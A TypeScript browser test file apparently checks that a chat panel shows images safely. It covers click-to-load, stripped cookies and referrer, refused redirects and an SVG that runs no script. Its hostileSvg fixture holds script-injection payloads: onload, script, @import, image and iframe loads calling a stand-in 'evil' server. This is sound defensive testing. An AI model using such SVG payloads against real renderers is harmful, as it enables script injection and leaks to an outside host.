import { afterAll, beforeAll, expect, test } from 'vitest';
import { type Answer, answerPost, answerText, serve } from '../support/http-server.ts';
import { startBrowser, type TestBrowser } from './browser.ts';
import { axeViolations, faultsIn } from './looks.ts';
import { type Person, person } from './person.ts';
import { says } from './served.ts';

const dot = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** SVG that would contact another server if it were more than a picture. */
const hostileSvg = (evil: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"
  xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('${evil}/onload')">
  <script>fetch('${evil}/script')</script><script href="${evil}/script.js"/>
  <style>@import url(${evil}/import.css); rect { fill: url(${evil}/fill.svg#a) }</style>
  <image href="${evil}/inner.png" width="9" height="9"/><use xlink:href="${evil}/use.svg#a"/>
  <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/frame"/>
  </foreignObject><rect width="20" height="20"/></svg>`;

const answerImage =
  (type: string, bytes: string | Uint8Array): Answer =>
  (response) =>
    response.writeHead(200, { 'content-type': type, 'set-cookie': 'image=1' }).end(bytes);

let site: Awaited<ReturnType<typeof serve>>;
let evil: Awaited<ReturnType<typeof serve>>;
let chromium: TestBrowser;
let panel: Person;
let faults: () => Promise<string[]>;

const paths = '/dot.png /hostile.svg /large /page.html /missing /moved /moved-here /broken /gone'.split(' ');

beforeAll(async () => {
  evil = await serve({});
  site = await serve({
    '/cookie': (response) =>
      response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'who=ada; Path=/' }).end('set'),
    '/chat/stream': answerPost((response, request) =>
      says(paths.map((path) => `![${path}](${site.origin}${path})`).join('\n\n'))(response, request),
    ),
    '/dot.png': answerImage('image/png', dot),
    '/hostile.svg': answerImage('image/svg+xml', hostileSvg(evil.origin)),
    '/large': answerImage('image/png', new Uint8Array(16 * 1024 * 1024 + 1)),
    '/page.html': answerText(200, 'text/html', '<p>Sign in</p>'),
    '/moved': (response) => response.writeHead(302, { location: `${evil.origin}/moved` }).end(),
    '/moved-here': (response) => response.writeHead(302, { location: '/dot.png' }).end(),
    '/broken': answerImage('image/png', 'no picture'),
    '/gone': (response) => response.destroy(),
  });
  chromium = await startBrowser();
  const page = await chromium.browser.newPage();
  await page.goto(`${site.origin}/cookie`);
  const side = await chromium.openPanel();
  faults = await faultsIn(side);
  panel = person(side);
  const header = { name: 'X-Team', value: 'blue' };
  await panel.addProfile({ name: 'Pictures', url: `${site.origin}/chat`, header });
  await panel.send('Show');
  await panel.answer('done');
  await panel.page.waitForSelector('button[data-tooltip]');
});

afterAll(async () => {
  await chromium?.close();
  await site?.[Symbol.asyncDispose]();
  await evil?.[Symbol.asyncDispose]();
});

const seen = (path: string) => site.requests.filter((request) => request.path === path);
async function press(path: string) {
  await panel.page.focus(`button[data-tooltip="${site.origin}${path}"]`);
  await panel.page.keyboard.press('Enter');
}
const picture = async (path: string) => {
  const selector = `[data-run-state] img[alt="${path}"]`;
  await panel.page.waitForFunction(
    (wanted) => (document.querySelector(wanted) as HTMLImageElement | null)?.naturalWidth,
    {},
    selector,
  );
  return panel.page.$eval(selector, (image) => (image as HTMLImageElement).src.split(',')[0]);
};

test('no picture is requested before a click', async () => {
  expect(paths.flatMap(seen)).toEqual([]);
  expect(await panel.page.$('[data-run-state] img')).toBeNull();
});

test('a picture is shown without cookies, referrer or origin of the reader', async () => {
  await press('/dot.png');
  expect(await picture('/dot.png')).toBe('data:image/png;base64');
  const [request, ...others] = seen('/dot.png');
  expect([request?.method, others]).toEqual(['GET', []]);
  const names = Object.keys(request?.headers ?? {});
  expect(names).toContain('host');
  for (const name of ['cookie', 'referer', 'origin', 'x-team', 'authorization'])
    expect(names).not.toContain(name);
  const cookies = await chromium.browser.cookies();
  expect(cookies.map(({ name }) => name)).toEqual(['who']);
});

test('an SVG runs no script and loads nothing', async () => {
  await press('/hostile.svg');
  expect(await picture('/hostile.svg')).toBe('data:image/svg+xml;base64');
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  expect(evil.requests).toEqual([]);
  expect(await faults()).toEqual([]);
});

test.each([
  ['/large', 'The image is larger than 16 MiB'],
  ['/page.html', 'sent text/html, which Runnel does not show as an image'],
  ['/missing', 'There is no image at this address (status 404)'],
  ['/moved', 'redirects to another address'],
  ['/moved-here', 'redirects to another address'],
  ['/broken', 'cannot be shown as an image'],
  ['/gone', 'could not be reached'],
])('%s names why it is not shown, and can be retried', async (path, words) => {
  await press(path);
  const status = `button[data-tooltip="${site.origin}${path}"] + [role="status"]`;
  const said = () => panel.page.$eval(status, ({ textContent }) => textContent);
  await expect.poll(said, { timeout: 20_000 }).toContain(words);
  expect(
    await panel.page.$(`button[data-tooltip="${site.origin}${path}"][aria-disabled="false"]`),
  ).not.toBeNull();
  expect(await panel.page.$(`a[href="${site.origin}${path}"]`)).not.toBeNull();
});

test('no redirect was followed, and the page has no fault', async () => {
  expect(evil.requests).toEqual([]);
  expect(await faults()).toEqual([]);
  expect(await axeViolations(panel.page)).toEqual([]);
});
